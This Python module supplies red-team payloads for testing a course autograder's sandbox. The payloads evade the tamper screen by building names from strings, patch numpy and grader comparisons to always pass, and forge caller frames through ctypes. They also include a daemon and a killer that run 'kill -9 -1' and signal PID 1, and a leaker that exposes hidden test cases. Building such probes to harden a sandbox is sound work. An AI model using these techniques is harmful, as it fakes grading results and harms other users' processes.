"""Submissions and sandbox probes for the seventh red-team pass
(tests/test_hostile_seventh_pass.py). Submissions are built with :mod:`hostile.sixth`'s
builders (the release with the reference nnlib, one change each); this module holds the
attack code: module-level ``*_TOP`` text (after :func:`hostile.attacks.prelude`) and graded
bodies that call it.
"""

# --------------------------------------------------------------------------- a course below /tmp

# Run in the real sandbox (``sandbox._command``'s bwrap + setpriv prefix, the venv moved
# below /tmp): every read of the course around the venv and every write into the venv and
# the folders bwrap made above it, one line each: "<what> <path> ok|<errno name>".
BELOW_TMP_SCRIPT = r'''
import errno, os, sys
venv, course = sys.argv[1], sys.argv[2]
reads = [course + "/nncourse/grader/heldout.py", course + "/solutions/ch03_softmax/answer.py",
         course + "/nnlib/losses.py", course + "/out/grades.csv", course + "/submitted/other/ch03_softmax/x.py",
         course + "/secret.txt"]
for path in reads:
    try:
        with open(path) as fh:
            print("read", path, "ok", fh.read(40).replace("\n", " "))
    except OSError as err:
        print("read", path, errno.errorcode[err.errno])
print("listing", course, sorted(os.listdir(course)))
writes = [venv + "/planted.pth", venv + "/bin/planted", os.path.dirname(venv) + "/planted",
          os.path.dirname(os.path.dirname(venv)) + "/planted", course + "/nncourse"]
for path in writes:
    try:
        if path.endswith("nncourse"):
            os.mkdir(path)
        else:
            with open(path, "w") as fh:
                fh.write("x")
        print("write", path, "ok")
    except OSError as err:
        print("write", path, errno.errorcode[err.errno])
for path in [course, os.path.dirname(course)]:
    try:
        os.chmod(path, 0o777)
        print("chmod", path, "ok")
    except OSError as err:
        print("chmod", path, errno.errorcode[err.errno])
for path in (course, os.path.dirname(course)):
    try:
        os.rename(path, "/tmp/moved")
        print("rename", path, "ok")
        os.rename("/tmp/moved", path)
    except OSError as err:
        print("rename", path, errno.errorcode[err.errno])
print("listing /tmp", sorted(os.listdir("/tmp")))
print("uid is", os.getuid())
'''

# --------------------------------------------------------------------------- chapter 3

# The tamper screen (defence in depth) names setattr, dunder attributes, sys._getframe
# and imports outside numpy/math/typing: the attacks reach them by strings, through the
# prelude's importlib (``_load``) and getattr, so that they get past it and run.
SAY = r'''
def _say(*parts):  # one write: print's separate writes may reach the notebook as two outputs
    print(" ".join(str(p) for p in parts), flush=True)

'''
REFLECTION = SAY + r'''
_B = _load("builtins")
_SET = getattr(_B, "set" + "attr")
_FRAME = getattr(_sys, "_get" + "frame")
_CODE = "__co" + "de__"
'''

# At import: the comparisons a grader might use, made to agree with anything, in numpy
# (allclose, isclose, array_equal, testing), builtins (abs, all, any) and every probes.*
# module the kernel holds (functions named like a comparison or a writer replaced).
PATCHER_TOP = REFLECTION + r'''
_np = _load("numpy")


def _yes(*args, **kwargs):
    return True


def _patch_everything():
    done = []
    for name in ("allclose", "array_equal", "array_equiv"):
        _SET(_np, name, _yes)
        done.append("np." + name)
    _SET(_np, "isclose", lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool))
    _SET(_np.testing, "assert_allclose", lambda *a, **k: None)
    _SET(_np.testing, "assert_array_equal", lambda *a, **k: None)
    _SET(_B, "all", _yes)
    done += ["np.isclose", "np.testing", "builtins.all"]
    for modname, module in list(_sys.modules.items()):
        if modname.startswith(("probes", "nncourse", "_nncourse")) and module is not None:
            for attr in dir(module):
                if any(w in attr.lower() for w in ("same", "close", "judge", "check", "compare")):
                    try:
                        _SET(module, attr, _yes)
                        done.append(modname + "." + attr)
                    except Exception:
                        pass
    _say(_MARK, "ran: patched", len(done), sorted(done)[:12])


_patch_everything()
'''

# A graded body that, after computing a wrong dtau, walks every frame above it and writes
# into their locals (through ctypes, which makes the write stick) and into any dict or list
# they hold: every float becomes the wrong answer, every bool True, every "expected"-like
# name the wrong result; then swaps the code of every function of the probes modules it can
# find in the heap (gc) for one that returns its first argument.
FRAMES_TOP = REFLECTION + r'''
_gc = _load("gc")
_ctypes = _load("ctypes")
_FORGED = {}


def _echo(*args, **kwargs):
    return args[0] if args else None


def _forge(result):
    touched = 0
    frame = _FRAME(2)
    while frame is not None:
        local = frame.f_locals
        for key, value in list(local.items()):
            if isinstance(value, bool):
                local[key] = True
            elif isinstance(value, dict):
                for k in list(value):
                    if isinstance(value[k], float):
                        value[k] = 0.25
                        touched += 1
            elif any(w in key.lower() for w in ("expect", "want", "answer", "result", "out")):
                local[key] = result
            touched += 1
        try:
            _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame), _ctypes.c_int(0))
        except Exception:
            pass
        frame = frame.f_back
    victims = [obj for obj in _gc.get_objects()
               if type(obj).__name__ == "function" and "probes" in (getattr(obj, "__module__", "") or "")]
    if not _FORGED:  # told before the swap: the swapped code may include what carries stdout out
        _FORGED["told"] = True
        _say(_MARK, "ran: touched", touched, "swapping", len(victims))
    for obj in victims:
        try:
            _SET(obj, _CODE, getattr(_echo, _CODE))
        except Exception:
            pass
    return result
'''
FRAMES_TCE_BODY = """
scaled = logits / tau
loss, dscaled = softmax_cross_entropy(scaled, labels)
return _forge((loss, dscaled / tau, -float(np.sum(dscaled * logits))))
"""

# At import: a grandchild that leaves the kernel's session (double fork, setsid, SIGHUP
# ignored, its marker in its command line), waits for the sandbox to be done with this
# student, then for a minute kills every process it may signal (kill -9 -1) and writes
# into /tmp and HOME: were it to outlive the sandbox, the next student (graded right after,
# --jobs 1) or the grader would die.
DAEMON_TOP = SAY + r'''
def _leave():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv("/bin/sh", ["/bin/sh", "-c",
                      "trap '' HUP TERM; sleep 30; i=0; while [ $i -lt 300 ]; do kill -9 -1; "
                      "echo $i > /tmp/" + _MARK + "; echo $i > $HOME/" + _MARK + "; sleep 0.2; "
                      "i=$((i+1)); done # " + _MARK])
        _os._exit(0)
    _os.wait()
    _say(_MARK, "ran: left")


_leave()
'''

# A graded body that signals everything it can see: the kernel's parent (the runner),
# process 1 of its namespace (bwrap's child) and -1 (every process it may signal): the
# sandbox dies, the batch goes on.
KILLER_TCE_BODY = """
_signal = _load("signal")
_told = []
for _pid in (_os.getppid(), 1, -1):
    try:
        _os.kill(_pid, _signal.SIGKILL)
        _told.append(f"{_pid}:sent")
    except OSError as _err:
        _told.append(f"{_pid}:{type(_err).__name__}")
_say(_MARK, "ran: killed", _os.getpid(), _told)
return 0.0, logits * 0.0, 0.0
"""

# A graded body that reads the hidden cases the sandbox was given (/job/cases) and the
# hidden check's source, and puts them where a student might see them again: an exception
# message, stdout, stderr, and a file named after the first hidden value in its working
# folder. Each leak starts with "LEAK<" and ends with ">KAEL".
LEAKER_TOP = SAY + r'''
def _first_array(value):
    if hasattr(value, "shape") and getattr(value, "size", 0):
        return value
    items = value.values() if isinstance(value, dict) else value if isinstance(value, (list, tuple)) else ()
    for item in items:
        found = _first_array(item)
        if found is not None:
            return found
    return None


def _leak(name):
    try:
        plaindata = _load("probes.plaindata")
        with open("/job/cases/" + name + ".npz", "rb") as fh:
            cases = plaindata.from_bytes(fh.read())
    except Exception as err:
        _say(_MARK, "ran: unread", type(err).__name__, err, _os.listdir("/job/cases"))
        raise
    first = _first_array(cases[0])
    values = " ".join(repr(float(v)) for v in first.ravel()[:4])
    try:
        source = open("/job/lib/probes/" + @MODULE@ + ".py").read()[:300].replace("\n", " ")
    except OSError as err:
        source = "unread " + type(err).__name__
    text = "LEAK<" + values + " | " + source + ">KAEL"
    print(text)
    print(text, file=_sys.stderr)
    try:
        open("LEAK<" + values.replace(" ", "_") + ">KAEL", "w").close()
    except OSError:
        pass
    _say(_MARK, "ran: leaked", values)
    raise ValueError(text)
'''


# --------------------------------------------------------------------------- chapter 4

# Softplus.backward as sigmoid(-x) (a sign slip): honest and wrong, everywhere.
WRONG_SOFTPLUS = "return dout * np.exp(-np.logaddexp(0.0, self._x))"
FRAMES_SOFTPLUS = "return _forge(dout * np.exp(-np.logaddexp(0.0, self._x)))"
KILLER_SOFTPLUS = KILLER_TCE_BODY.replace("return 0.0, logits * 0.0, 0.0", "return dout * 0.0")

# The same daemon, quick: one second after the import it starts killing (its own sandbox
# too, if that is still running: the notebook may be done by then); graded two at a time
# (--jobs 2), so another student's sandbox runs beside it.
QUICK_DAEMON_TOP = DAEMON_TOP.replace("sleep 30;", "sleep 1;")
